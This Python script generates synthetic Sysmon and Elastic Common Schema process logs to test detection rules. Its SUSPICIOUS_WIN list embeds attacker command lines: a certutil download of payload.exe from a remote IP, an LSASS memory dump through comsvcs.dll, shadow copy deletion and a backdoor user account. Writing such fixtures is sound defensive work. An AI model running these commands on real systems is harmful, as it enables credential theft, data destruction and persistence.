#!/usr/bin/env python3
"""Generate the bundled sample events under examples/events/ (deterministic: same bytes on
every run).

Usage (from the crate root):

    python3 scripts/gen_samples.py examples/events

Writes two NDJSON files, one event per line:

* `sysmon.ndjson`: 300 Windows events shaped as Windows event JSON (what `evtx_dump` and
  SigmaHQ's regression data hold: `Event.System` + `Event.EventData`): Sysmon process creation
  (event 1), network connection (3), file creation (11) and registry value set (13) events in
  the `Microsoft-Windows-Sysmon/Operational` channel, plus Security 4688 process creation
  events. Most are ordinary activity; a few are the well-known attacker commands that SigmaHQ
  rules describe (whoami /priv, certutil download, encoded PowerShell, LSASS dump through
  comsvcs.dll, ...), and a few are Sysmon for Linux process creations of `python3 -m
  http.server` (the seed rule, rules/seed/, matches them with no pipeline).
* `ecs_linux.ndjson`: 200 Linux process events in Elastic Common Schema (Elastic Defend /
  Auditbeat shape: `process.executable`, `process.command_line`, `event.type`, `host.os.type`),
  a few of them Python web servers (the seed rule matches them through `-p ecs_linux`).

The events are synthetic; host names, users and hashes are made up.
"""
import json
import os
import random
import sys
from datetime import datetime, timedelta, timezone

SEED = 16
START = datetime(2026, 11, 2, 8, 0, 0, tzinfo=timezone.utc)

WIN_HOSTS = ["WS-ACCT-01.corp.example", "WS-DEV-07.corp.example", "SRV-FILE-02.corp.example"]
WIN_USERS = ["CORP\\alice", "CORP\\bob", "NT AUTHORITY\\SYSTEM"]
LINUX_HOSTS = ["web-01", "build-02", "db-03"]
LINUX_USERS = ["root", "deploy", "www-data"]

# (image, command line, parent image, parent command line)
BENIGN_WIN = [
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"),
    ("C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\alice\\Documents\\todo.txt",
     "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde",
     "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
     "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git status",
     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe",
     "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""),
]
SUSPICIOUS_WIN = [
    ("C:\\Windows\\System32\\whoami.exe", "whoami /priv",
     "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\\Users\\Public\\payload.exe",
     "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c certutil"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\""),
    ("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 644 C:\\Windows\\Temp\\lsass.dmp full",
     "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
     "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c vssadmin delete shadows /all /quiet"),
    ("C:\\Windows\\System32\\net.exe", "net user /add backdoor P@ssw0rd!",
     "C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
]
BENIGN_LINUX = [
    ("/usr/bin/ls", "ls -la /var/www"), ("/usr/bin/git", "git pull --ff-only"),
    ("/usr/sbin/sshd", "sshd: deploy [priv]"), ("/usr/bin/python3", "python3 /opt/app/manage.py migrate"),
    ("/usr/bin/curl", "curl -s https://example.com/health"), ("/usr/bin/bash", "bash -c uptime"),
    ("/usr/bin/tar", "tar czf /tmp/backup.tgz /etc"), ("/usr/bin/python3.11", "python3.11 -m pip list"),
]
WEBSERVERS_LINUX = [
    ("/usr/bin/python3", "python3 -m http.server 8000"),
    ("/usr/bin/python2", "python2 -m SimpleHTTPServer 8080"),
    ("/usr/bin/python3.11", "/usr/bin/python3.11 -m http.server --bind 0.0.0.0 9000"),
]


def guid(rng):
    h = "%032X" % rng.getrandbits(128)
    return "{%s-%s-%s-%s-%s}" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def system(event_id, provider, channel, host, t, record, version=5):
    return {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": event_id,
        "Version": version,
        "Level": 4,
        "Task": event_id,
        "Opcode": 0,
        "Keywords": "0x8000000000000000",
        "TimeCreated": {"#attributes": {"SystemTime": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
        "EventRecordID": record,
        "Channel": channel,
        "Computer": host,
    }


SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")


def sysmon_process(rng, t, record, host, user, proc):
    image, cmd, pimage, pcmd = proc
    data = {
        "RuleName": "-",
        "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
        "ProcessGuid": guid(rng),
        "ProcessId": rng.randrange(1000, 20000),
        "Image": image,
        "CommandLine": cmd,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": user,
        "IntegrityLevel": "High" if "SYSTEM" in user else "Medium",
        "Hashes": "SHA256=%064X" % rng.getrandbits(256),
        "ParentProcessGuid": guid(rng),
        "ParentProcessId": rng.randrange(500, 9000),
        "ParentImage": pimage,
        "ParentCommandLine": pcmd,
        "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
    }
    return {"Event": {"System": system(1, *SYSMON, host, t, record), "EventData": data}}


def security_4688(rng, t, record, host, user, proc):
    image, cmd, pimage, _ = proc
    data = {
        "SubjectUserName": user.split("\\")[-1],
        "SubjectDomainName": user.split("\\")[0],
        "NewProcessId": hex(rng.randrange(0x400, 0x4000)),
        "NewProcessName": image,
        "CommandLine": cmd,
        "ParentProcessName": pimage,
        "TokenElevationType": "%%1936",
    }
    sys_ = system(4688, "Microsoft-Windows-Security-Auditing", "Security", host, t, record, 2)
    return {"Event": {"System": sys_, "EventData": data}}


def sysmon_network(rng, t, record, host, user):
    image = rng.choice(["C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                        "C:\\Windows\\System32\\svchost.exe"])
    data = {
        "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "ProcessGuid": guid(rng),
        "ProcessId": rng.randrange(1000, 20000), "Image": image, "User": user, "Protocol": "tcp",
        "Initiated": "true", "SourceIp": "10.0.%d.%d" % (rng.randrange(1, 9), rng.randrange(2, 250)),
        "SourcePort": rng.randrange(49152, 65535), "DestinationIp": "198.51.100.%d" % rng.randrange(1, 250),
        "DestinationPort": rng.choice([443, 80, 53]), "DestinationHostname": "-",
    }
    return {"Event": {"System": system(3, *SYSMON, host, t, record), "EventData": data}}


def sysmon_file(rng, t, record, host, user):
    name = rng.choice(["report.docx", "notes.txt", "setup.exe", "cache.tmp"])
    data = {
        "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "ProcessGuid": guid(rng),
        "ProcessId": rng.randrange(1000, 20000), "Image": "C:\\Windows\\explorer.exe",
        "TargetFilename": "C:\\Users\\%s\\Downloads\\%s" % (user.split("\\")[-1], name),
        "CreationUtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "User": user,
    }
    return {"Event": {"System": system(11, *SYSMON, host, t, record), "EventData": data}}


def sysmon_registry(rng, t, record, host, user):
    key = rng.choice([
        "HKU\\S-1-5-21-1000\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\MRUListEx",
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
    ])
    details = "C:\\Users\\Public\\updater.exe" if key.endswith("Updater") else "Binary Data"
    data = {
        "EventType": "SetValue", "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
        "ProcessGuid": guid(rng), "ProcessId": rng.randrange(1000, 20000),
        "Image": "C:\\Windows\\explorer.exe", "TargetObject": key, "Details": details, "User": user,
    }
    return {"Event": {"System": system(13, *SYSMON, host, t, record), "EventData": data}}


def sysmon_linux_process(rng, t, record, host, user, exe, cmd):
    data = {
        "RuleName": "-", "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "ProcessGuid": guid(rng),
        "ProcessId": rng.randrange(1000, 60000), "Image": exe, "CommandLine": cmd,
        "CurrentDirectory": "/home/" + user, "User": user, "ParentImage": "/usr/bin/bash",
        "ParentCommandLine": "-bash",
    }
    sys_ = system(1, "Linux-Sysmon", "Linux-Sysmon/Operational", host, t, record)
    return {"Event": {"System": sys_, "EventData": data}}


def windows_events(rng):
    out = []
    t = START
    for record in range(1, 301):
        t += timedelta(seconds=rng.randrange(1, 40), microseconds=rng.randrange(0, 999999))
        host, user = rng.choice(WIN_HOSTS), rng.choice(WIN_USERS)
        k = record % 20
        if k == 7:
            proc = SUSPICIOUS_WIN[(record // 20) % len(SUSPICIOUS_WIN)]
            out.append(sysmon_process(rng, t, record, host, user, proc))
        elif k == 13:
            proc = SUSPICIOUS_WIN[(record // 20 + 3) % len(SUSPICIOUS_WIN)]
            out.append(security_4688(rng, t, record, host, user, proc))
        elif k == 17 and record < 200:
            exe, cmd = WEBSERVERS_LINUX[(record // 20) % len(WEBSERVERS_LINUX)]
            out.append(sysmon_linux_process(rng, t, record, rng.choice(LINUX_HOSTS), "deploy", exe, cmd))
        elif k in (1, 5, 9):
            out.append(sysmon_network(rng, t, record, host, user))
        elif k in (2, 11):
            out.append(sysmon_file(rng, t, record, host, user))
        elif k in (3, 15):
            out.append(sysmon_registry(rng, t, record, host, user))
        elif k == 19:
            out.append(security_4688(rng, t, record, host, user, rng.choice(BENIGN_WIN)))
        else:
            out.append(sysmon_process(rng, t, record, host, user, rng.choice(BENIGN_WIN)))
    return out


def ecs_events(rng):
    out = []
    t = START
    for n in range(1, 201):
        t += timedelta(seconds=rng.randrange(1, 60), milliseconds=rng.randrange(0, 999))
        exe, cmd = (WEBSERVERS_LINUX[n // 25 % 3] if n % 25 == 12 else rng.choice(BENIGN_LINUX))
        host = rng.choice(LINUX_HOSTS)
        out.append({
            "@timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
            "event": {"category": ["process"], "type": ["start"], "action": "exec",
                      "kind": "event", "dataset": "endpoint.events.process"},
            "host": {"name": host, "hostname": host, "os": {"type": "linux", "family": "debian"}},
            "user": {"name": rng.choice(LINUX_USERS)},
            "process": {
                "pid": rng.randrange(1000, 60000), "executable": exe, "name": exe.rsplit("/", 1)[-1],
                "command_line": cmd, "args": cmd.split(" "),
                "parent": {"executable": "/usr/bin/bash", "name": "bash", "pid": rng.randrange(500, 999)},
            },
        })
    return out


def write(path, events):
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for e in events:
            f.write(json.dumps(e, ensure_ascii=False, separators=(",", ":")) + "\n")


def main() -> int:
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join("examples", "events")
    os.makedirs(out, exist_ok=True)
    rng = random.Random(SEED)
    write(os.path.join(out, "sysmon.ndjson"), windows_events(rng))
    write(os.path.join(out, "ecs_linux.ndjson"), ecs_events(rng))
    return 0


if __name__ == "__main__":
    sys.exit(main())
